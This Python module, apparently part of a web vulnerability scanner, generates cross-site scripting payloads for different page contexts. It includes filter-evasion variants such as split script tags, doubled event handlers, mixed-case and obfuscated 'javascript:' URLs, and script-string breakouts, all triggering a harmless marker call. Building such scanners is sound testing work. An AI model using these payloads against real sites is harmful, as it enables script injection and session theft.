"""What has to be written into a page so that it runs, for each kind of place in it.

`{ww_x}` is a random word and `{ww_x}(1)` the script: whoever can write that can write any.
Variants follow for filters that look for one spelling, take something out once, or fold case.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

from scanner import Word
from scanner.site.reflection import Context

CODE = "{ww_x}(1)"
HOLES = (Word("ww_x", 8),)
SPECIAL = ("(", ">", "'", '"', "`", "\\", "{", "=", "<b ")
"""What has to survive for a payload to work, learned before any is tried. The tag comes last,
because what follows it may be taken out with it, and is one that many filters let through."""

_ELEMENTS = (
    f"<img src={{ww_x}} onerror={CODE}>",
    f"<script>{CODE}</script>",
    f"<svg/onload={CODE}>",
    f"<b onmouseover={CODE}>{{ww_x}}</b>",
    f"<img src={{ww_x}} onerror={CODE} ",
    f"<scr<script>ipt>{CODE}</scr</script>ipt>",
    f"<im<b>g src={{ww_x}} onerror={CODE}>",
    f"<img src={{ww_x}} oonerror=nerror={CODE}>",
    f"<ScRiPt>{CODE}</ScRiPt>",
    f"<details open ontoggle={CODE}>",
    f"<iframe src=javascript:{CODE}>",
    f'<a href="java&#9;script:{CODE}">{{ww_x}}</a>',
)
_BARE = "<img src={ww_x} onerror={ww_x}=1>"
_ATTRIBUTES = (
    f" onmouseover={CODE} ",
    f" autofocus onfocus={CODE} ",
    f" oonmouseover=nmouseover={CODE} ",
    f"/onmouseover={CODE}//",
)
_ADDRESSES = (
    f"javascript:{CODE}",
    f"javascript:{CODE}//",
    f"JaVaScRiPt:{CODE}//",
    f"java\tscript:{CODE}//",
    f"\x01javascript:{CODE}//",
    f"javajavascript:script:{CODE}//",
    f"data:text/javascript,{CODE}//",
)
_OUT_OF_SCRIPT: dict[str, tuple[str, ...]] = {
    "code": (CODE, f"1-{CODE}", f"1;{CODE}//"),
    "`": (f"${{{CODE}}}", f"`-{CODE}-`"),
    "//": (f"\n{CODE}//",),
    "/*": (f"*/{CODE}/*", f"*/;{CODE}/*"),
    "regex": (f"a/-{CODE}-/a",),
}


@dataclass(frozen=True, slots=True)
class Payload:
    """`text` is written, `code` must run.

    `inside` says that a script of the page runs it; an `address` stands before the value that
    was seen, everything else after it; of what is `decoded` in its place, entities run too.
    """

    text: str
    code: str = CODE
    inside: bool = False
    address: bool = False
    decoded: bool = False

    def works_with(self, survives: frozenset[str]) -> bool:
        """Whether its special characters come back as they are; `\\"` says with a backslash."""
        text = self.text.replace("{ww_x}", "")
        needs = {one for one in SPECIAL if one.strip("b ") in text}
        if text.startswith("\\") and text[:2] in survives:
            needs.discard(text[1])
        return needs <= survives


def payloads(context: Context, survives: frozenset[str]) -> Iterator[Payload]:
    """What may run in `context`, where `survives` of `SPECIAL` come back as they are."""
    for payload in _payloads(context):
        if payload.decoded or payload.works_with(survives):
            yield payload


def _payloads(context: Context) -> Iterator[Payload]:
    if context.is_address:
        yield from (Payload(text, address=True, decoded=True) for text in _ADDRESSES)
    if context.is_page:
        yield from (Payload(text, decoded=True) for text in _ELEMENTS)
    if context.script:
        decoded = context.holder == "value"
        out = _out_of(context.script)
        yield from (Payload(text, inside=True, decoded=decoded) for text in out)
    attributes = _ATTRIBUTES if context.holder in ("value", "tag") else ()
    # One attribute first: a filter that takes elements out, however they are spelt, leaves it.
    yield from (_attribute(context, one) for one in attributes[:1])
    before, *others = _endings(context)
    yield from (Payload(before + element) for element in _ELEMENTS)
    yield from (Payload(ending + _ELEMENTS[0]) for ending in others)
    yield Payload(before + _BARE, "{ww_x}=1")
    yield from (_attribute(context, one) for one in attributes[1:])


def _attribute(context: Context, attribute: str) -> Payload:
    return Payload(f"{context.quote}{attribute}{context.quote}")


def _endings(context: Context) -> tuple[str, ...]:
    """What ends the place, so that an element may follow; the likeliest first."""
    match context.holder:
        case "raw":
            return (f"</{context.tag}>",)
        case "comment":
            return ("-->", "--!>")
        case "value" | "tag":
            return (f"{context.quote}>",)
    return ("", "</select></template></svg></math>")


def _out_of(kind: str) -> tuple[str, ...]:
    if kind in ("'", '"'):
        return (f"{kind}-{CODE}-{kind}", f"{kind};{CODE}//", f"\\{kind}-{CODE}//")
    return _OUT_OF_SCRIPT[kind]
